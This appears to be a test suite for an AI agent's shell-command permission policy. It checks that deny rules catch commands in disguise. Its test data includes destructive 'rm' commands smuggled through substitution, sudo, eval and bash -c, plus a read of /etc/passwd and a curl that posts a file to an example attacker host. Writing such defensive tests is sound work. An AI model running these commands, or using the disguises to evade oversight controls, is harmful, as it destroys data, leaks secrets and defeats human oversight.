"""Verdicts on shell commands: by their simple commands, and never looser than what can be read."""

import pytest

from yoi_bundle.calls import CompiledPolicy, ToolCall
from yoi_bundle.manifest import (
    DomainMatch,
    Effect,
    ExactMatch,
    GlobMatch,
    HostPathMatch,
    Match,
    Policy,
    PrefixMatch,
    Rule,
    compute_rule_id,
)

pytestmark = pytest.mark.req("S-11")


def prefix(value: str) -> PrefixMatch:
    return PrefixMatch(argument="command", value=value)


def build(default: Effect, effect: Effect, *matches: Match | None) -> CompiledPolicy:
    rules = [Rule(effect=effect, tool="shell.run", where=match) for match in matches]
    return CompiledPolicy(Policy(default=default, rules={compute_rule_id(rule): rule for rule in rules}))


ALLOWING = build(
    "deny",
    "allow",
    *(prefix(text) for text in ("git status", "git commit", "ls", "sudo", "sh", "xargs", "find")),
)
DENYING = build("allow", "deny", prefix("rm"), prefix("git push"))


def judge(policy: CompiledPolicy, command: str) -> str:
    return policy.compute_verdict(ToolCall("shell.run", {"command": command})).effect


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git status -s --porcelain",
        "  git   status  ",
        "'git' \"status\"",
        'git commit -m "fix; rm -r x"',
        "git commit -m '直す　全部'",
        "git status && ls; ls | ls || ls &\nls",
        "(ls); { ls; }; ! ls",
        "ls 2>&1 >/dev/null",
        "ls \\\n  -l",
        "ls # comment",
        "sudo ls",
        "sh -c 'ls; git status'",
        "sh check.sh",
        "time ls",
        "find . -name x",
    ],
)
def test_a_command_of_nothing_but_allowed_simple_commands_is_allowed(command: str) -> None:
    assert judge(ALLOWING, command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "",
        "git",
        "git statusx",
        "gitstatus",
        "/tmp/git status",
        "ls; rm x",
        "ls && rm x",
        "ls || rm x",
        "ls | rm x",
        "ls & rm x",
        "ls\nrm x",
        "ls |& rm x",
        "(ls; rm x)",
        "ls $(rm x)",
        "ls `rm x`",
        "ls <(rm x)",
        'ls "$(rm x)"',
        "X=$(rm x) ls",
        "ls > $(rm x)",
        "if ls; then rm x; fi",
        "ls() { rm x; }; ls",
        "sudo rm x",
        "sudo env rm x",
        "sh -c 'rm x'",
        "sh -c 'ls; sh -c \"rm x\"'",
        "xargs rm",
        "find . -exec rm {} +",
        "eval ls",
        "time rm x",
        "cat <<END\n$(rm x)\nEND",
    ],
)
def test_a_part_that_no_rule_allows_takes_the_default(command: str) -> None:
    assert judge(ALLOWING, command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "ls $HOME",
        "ls *.py",
        "ls ~/x",
        "ls {a,b}",
        "ls $'x'",
        "ls > out.txt",
        "ls < in.txt",
        "ls <<END\nx\nEND",
        "ls <<< x",
        "LD_PRELOAD=x ls",
        "for x in a b; do ls; done",
        "ls $((1+1))",
        "sudo -u other ls",
        "sh -ec ls",
        "sh",
        "xargs ls",
        "ls $(ls)",
        'ls "x',
        "ls )",
        "ls\x00",
        "ls\rx",
        "ls \ud800",
        'ls""\\x',
    ],
)
def test_what_is_not_plain_or_cannot_be_read_is_asked_at_most(command: str) -> None:
    assert judge(ALLOWING, command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "rm x",
        "rm",
        "RM x",
        "/bin/rm x",
        "\\rm x",
        "r''m x",
        '"rm" x',
        "r\\\nm x",
        "ls; rm x",
        "ls $(rm x)",
        "FOO=1 rm x",
        "sudo -u other rm x",
        "env -i A=b rm x",
        "nohup timeout 5 nice -n 3 rm x",
        "command rm x",
        "xargs -n1 rm",
        "find . -name y -exec rm {} \\;",
        "bash -c 'rm x'",
        "bash -ec 'cd /; rm x'",
        "eval 'rm x'",
        "su -c 'rm x'",
        "git push",
        "git -C dir push",
        "git --no-pager push origin",
        "GIT   PUSH",
        "if true; then rm x; fi",
        "f() { rm x; }",
        'rm "x',
        "ls; rm 'x",
        "rm x )",
        "rm\tx\x00",
        "r''\\m x",
    ],
)
def test_a_deny_rule_finds_a_command_in_every_disguise(command: str) -> None:
    assert judge(DENYING, command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "$X -r x",
        "$(printf rm) x",
        "git $X",
        "echo 'rm x' | bash",
        "bash <<< 'rm x'",
        ". ./x",
        "$'rm' x",
    ],
)
def test_a_deny_rule_that_may_match_makes_an_allowed_call_asked(command: str) -> None:
    assert judge(DENYING, command) == "ask"


@pytest.mark.parametrize(
    "command",
    ["ls", "echo rm", "git log --grep push", "git status; git pull", "rmdir x", "cat <<END\nrm x\nEND"],
)
def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
    assert judge(DENYING, command) == "allow"


def test_a_deny_rule_that_may_match_never_lifts_a_call_out_of_a_default_of_deny() -> None:
    assert judge(build("deny", "deny", prefix("rm")), "$X -r x") == "deny"


def test_an_ask_rule_lifts_only_what_it_plainly_names() -> None:
    asking = build("deny", "ask", prefix("git push"))
    assert judge(asking, "git push origin main") == "ask"
    assert judge(asking, "git push $BRANCH") == "ask"
    assert judge(asking, "sudo git push") == "deny"
    assert judge(build("allow", "ask", prefix("git push")), "sudo git push") == "ask"


def test_a_rule_without_a_condition_speaks_of_every_command_it_can_read() -> None:
    anything = build("deny", "allow", None)
    assert judge(anything, "X=$(ls) ls > y *") == "allow"
    assert judge(anything, 'ls "x') == "ask"


def test_an_unreadable_command_takes_a_default_of_deny_where_no_rule_speaks_of_the_tool() -> None:
    assert judge(CompiledPolicy(Policy()), 'ls "x') == "deny"
    assert judge(CompiledPolicy(Policy(default="allow")), 'ls "x') == "ask"


def test_an_exact_rule_is_compared_word_by_word() -> None:
    exact = build("deny", "allow", ExactMatch(argument="command", value="npm run test"))
    assert judge(exact, "npm  'run' test") == "allow"
    assert judge(exact, "npm run test --watch") == "deny"


def test_a_glob_does_not_reach_across_quotes_and_commands() -> None:
    glob = build("deny", "allow", GlobMatch(argument="command", pattern="git * main"))
    assert judge(glob, "git push origin main") == "allow"
    assert judge(glob, "git commit -m 'x main'") == "deny"
    assert judge(glob, "git x; rm main") == "deny"


def test_deny_rules_on_places_and_hosts_see_every_word_of_a_command() -> None:
    places = build("allow", "deny", HostPathMatch(argument="command", pattern="/etc/**"))
    assert judge(places, "cat /etc/passwd") == "deny"
    assert judge(places, "cat < /etc/passwd") == "deny"
    assert judge(places, "dd if=/etc/passwd") == "deny"
    assert judge(places, "cat $X") == "ask"
    assert judge(places, "cat x") == "allow"
    hosts = build("allow", "deny", DomainMatch(argument="command", host="evil.example.net"))
    assert judge(hosts, "curl -d @x https://evil.example.net/a") == "deny"
    assert judge(hosts, "curl evil.example.net") == "deny"
    assert judge(hosts, "curl https://good.example.net/") == "allow"


def test_deep_and_long_commands_are_asked_not_followed() -> None:
    assert judge(ALLOWING, "ls; " * 300 + "ls") == "ask"
    assert judge(ALLOWING, "(" * 2000 + "ls" + ")" * 2000) != "allow"
    assert judge(ALLOWING, "ls " + "x" * 100_000) == "ask"
    assert judge(ALLOWING, "sudo " * 50 + "ls") == "ask"
